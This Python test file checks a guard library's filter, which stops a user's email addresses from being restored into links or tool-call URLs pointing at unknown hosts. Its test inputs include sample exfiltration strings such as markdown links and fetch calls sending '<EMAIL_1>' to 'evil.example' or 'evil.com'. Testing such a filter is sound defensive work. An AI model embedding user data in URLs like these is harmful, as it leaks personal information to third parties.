"""The client's own values do not come back into addresses by which they would leave for a stranger."""

import time
from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lockgate.core.events import TextDelta, ToolDelta, ToolStarted
from lockgate.core.guard import Action, Mode, Rule, Rules
from lockgate.core.names import Names
from lockgate.core.problem import Problem
from lockgate.guards.exfiltration import plugin as exfiltration
from lockgate.guards.pii import plugin as pii
from lockgate.patterns.looking import Looking
from lockgate.pipeline.careful import Careful
from lockgate.pipeline.decide import filled
from lockgate.pipeline.hold import Holdback
from lockgate.pipeline.ledger import Ledger
from lockgate.tokens.restorer import Restorer
from lockgate.tokens.spelling import Spelling
from tests.automata import CACHE
from tests.unit.pipeline.addresses import COME_BACK, STAY
from tests.unit.pipeline.gateway import openai_answer
from tests.unit.pipeline.tokened import MAIL, TOKENIZE, World, calling, user

GUARDS = (pii().build(), exfiltration(allow=("ok.example", "*.ok.example")).build())
ENGINE = Looking(GUARDS, CACHE)
OUT = frozenset(("response", "tool_arguments"))
AWAY = Rule("stay-here", 1, "mask", OUT)  # type: ignore[arg-type]
VALUES = {"EMAIL_1": ("<EMAIL_1>", "jo@mail.org"), "EMAIL_2": ("<EMAIL_2>", "al@mail.org")}
PLAIN = Restorer(VALUES, Spelling({"EMAIL"}, ()), Names(("*",)))


def streamed(
    text: str, *cuts: int, action: Action = "mask", mode: Mode = "enforce", rules: Sequence[Rule] | None = None
) -> tuple[str, Ledger]:
    """`rules`: others than the one that keeps values here, which holds all the same."""
    rule = Rule("stay-here", 1, action, OUT, mode)  # type: ignore[arg-type]
    ledger = Ledger("", 0, 0)
    restorer = Careful(PLAIN, (rule,), ENGINE.outlets, ledger)
    hold = Holdback(Rules((rule,) if rules is None else rules, ENGINE, "response"), ledger, restorer)
    ends = [0, *cuts, len(text)]
    pieces = [text[a:b] for a, b in pairwise(ends)]
    out = [event for piece in pieces for release in hold.feed(None, [TextDelta(piece)]) for event in release.events]
    out += [event for release in hold.end() for event in release.events]
    return "".join(event.text for event in out if isinstance(event, TextDelta)), ledger


@pytest.mark.parametrize("text", STAY, ids=range(len(STAY)))
def test_S62_a_value_does_not_leave_in_an_address_wherever_a_stream_is_cut(text: str) -> None:
    for cut in range(0, len(text) + 1, 1 if len(text) < 200 else 97):
        out, _ = streamed(text, cut)

        assert "jo@mail.org" not in out, cut
        assert "al@mail.org" not in out, cut
    letters, _ = streamed(text, *range(1, len(text), 1 if len(text) < 200 else 11))
    assert "@mail.org" not in letters


@pytest.mark.parametrize("text", COME_BACK, ids=range(len(COME_BACK)))
def test_elsewhere_and_to_known_hosts_it_comes_back(text: str) -> None:
    for cut in range(len(text) + 1):
        out, ledger = streamed(text, cut)

        assert "jo@mail.org" in out, cut
        assert not any(found.label == "value_in_address" for found in ledger.findings)


SOME = st.sampled_from(
    ("<EMAIL_1>", "<EMAIL_2>", "%3CEMAIL_1%3E", "< email 2 >", "www.", "evil.example", "ok.example", ".", "/", "?d=", "&b=", ":80", "@",
     "https:", "//", "\\/", "%2F", "&#47;", "&", " ", "\n", '"', "'", "(", ")", "](", "]: ", "<", ">", "`", "=", "x", "1", "\u3002", "%2E")
)  # fmt: skip


@settings(max_examples=400)
@given(st.lists(SOME, min_size=1, max_size=14), st.data())
def test_S62_any_cut_gives_what_the_whole_text_gives(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
    whole = filled(text, restorer.holes(text, restorer.found(text)))
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=6).map(sorted))

    assert streamed(text, *cuts, rules=())[0] == whole
    assert streamed(text, *range(1, len(text)), rules=())[0] == whole


def test_S49_no_text_makes_looking_for_addresses_slow() -> None:
    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
    for unit in (
        "a.",
        "a.b/",
        "%25",
        "&#47;",
        "\\2f ",
        "https:",
        "(",
        "a@",
        "www.",
        "\u3002a",
        "<EMAIL_1>.",
        "mailto:a@",
        "xn--a.",
    ):
        text = (unit * 1400)[:1400] + "<EMAIL_1>" + (unit * 200)[:200]
        started = time.process_time()
        restorer.holes(text, restorer.found(text)[-1:])

        assert time.process_time() - started < 0.25, unit


@pytest.mark.parametrize(
    "unit",
    ["<EMAIL_1>\n", "a, <EMAIL_1> b\n", "a.b/<EMAIL_1>", "<EMAIL_1>.a.", "mailto:a@<EMAIL_1>", "\u00e9.<EMAIL_1>"],
)
def test_S49_nor_do_many_tokens(unit: str) -> None:
    """As many looks as there are tokens: each takes no more than a part of a millisecond."""
    text = (unit * 4000)[:16_000]
    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
    found = restorer.found(text)
    started = time.process_time()
    restorer.holes(text, found)

    assert time.process_time() - started < 0.0008 * len(found)


def test_S49_nor_do_tokens_in_words_without_end() -> None:
    text = (" " + "(//ok.example/<EMAIL_1>" * 40) * 90
    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
    found = restorer.found(text)
    holes = restorer.holes(text, found)

    assert 0 < len(holes) < len(found)
    assert all(hole.start < 60_000 for hole in holes)


@pytest.mark.parametrize(
    ("ahead", "behind"),
    [
        ("ping ", "." + "a1." * 13 + "evil.com "),
        ("ping ", "." + "a1." * 70 + "evil.com "),
        ("ssh ", "a" * 70 + "@evil.com/x"),
        ("a1." * 14 + "evil.com/?q=", ""),
        ("see &evil.com/?q=", ""),
        ("see $evil.com/?q=", ""),
        ('{"body":"see\\nevil.com/?q=', ""),
        ('{"body":"see\\nwww.evil.com/?q=', ""),
        ('{"body":"https://ok.example/\\nevil.com/?q=', ""),
    ],
    ids=range(9),
)
def test_S62_nor_in_names_of_many_parts_nor_behind_a_sign_nor_behind_an_escape(ahead: str, behind: str) -> None:
    assert "jo@mail.org" not in streamed(f"{ahead}<EMAIL_1>{behind}")[0]


@pytest.mark.parametrize(
    "ahead", ["Hi,\\\\n", "Hi:\\\\nEmail:", "(\\\\n\\\\n", "(https://evil.example/),\\\\n"], ids=range(4)
)
def test_the_end_of_a_line_in_a_string_is_no_address(ahead: str) -> None:
    assert "jo@mail.org" in streamed(f"{ahead}<EMAIL_1>")[0]


def test_the_record_says_so() -> None:
    _, ledger = streamed("[see](https://evil.example/?d=<EMAIL_1>)")

    (found,) = ledger.findings
    assert (found.rule, found.label, found.place) == ("stay-here", "value_in_address", "response.restored")


@pytest.mark.parametrize(("action", "mode"), [("flag", "enforce"), ("mask", "shadow"), ("block", "shadow")])
def test_a_flag_writes_it_down_and_gives_it_back(action: Action, mode: Mode) -> None:
    out, ledger = streamed("[see](https://evil.example/?d=<EMAIL_1>)", action=action, mode=mode)

    assert "jo@mail.org" in out
    assert [found.label for found in ledger.findings] == ["value_in_address"]


def test_a_block_blocks() -> None:
    with pytest.raises(Problem, match="stay-here"):
        streamed("[see](https://evil.example/?d=<EMAIL_1>)", action="block")


def test_arguments_of_tools_are_addresses_too() -> None:
    ledger = Ledger("", 0, 0)
    hold = Holdback(Rules((AWAY,), ENGINE, "response"), ledger, Careful(PLAIN, (AWAY,), ENGINE.outlets, ledger))
    text = '{"url":"https:\\/\\/evil.example\\/?d=\\u003cEMAIL_1>","to":"<EMAIL_2>"}'
    events = [ToolStarted(0, "c", "fetch"), *(ToolDelta(0, char) for char in text)]
    out = [event for each in events for release in hold.feed(None, [each]) for event in release.events]
    out += [event for release in hold.end() for event in release.events]

    assert "".join(event.arguments for event in out if isinstance(event, ToolDelta)) == text.replace(
        "<EMAIL_2>", "al@mail.org"
    )


@pytest.mark.parametrize(("rules", "kept"), [((TOKENIZE,), False), ((TOKENIZE, AWAY), True)])
async def test_a_whole_answer_is_weighed_with_its_values(rules: tuple[Rule, ...], *, kept: bool) -> None:
    world = World(rules=rules, engine=ENGINE)

    told = await world.ask(openai_answer("[x](https://evil.example/?d=<EMAIL_1>) <EMAIL_1>"), user(f"I am {MAIL}"))
    called = await world.ask(calling("fetch", '{"url":"https://evil.example/<EMAIL_1>"}'), user(f"I am {MAIL}"))

    assert told.text.endswith(MAIL)
    assert told.text.count(MAIL) == (1 if kept else 2)
    assert (MAIL.encode() in called.raw) != kept
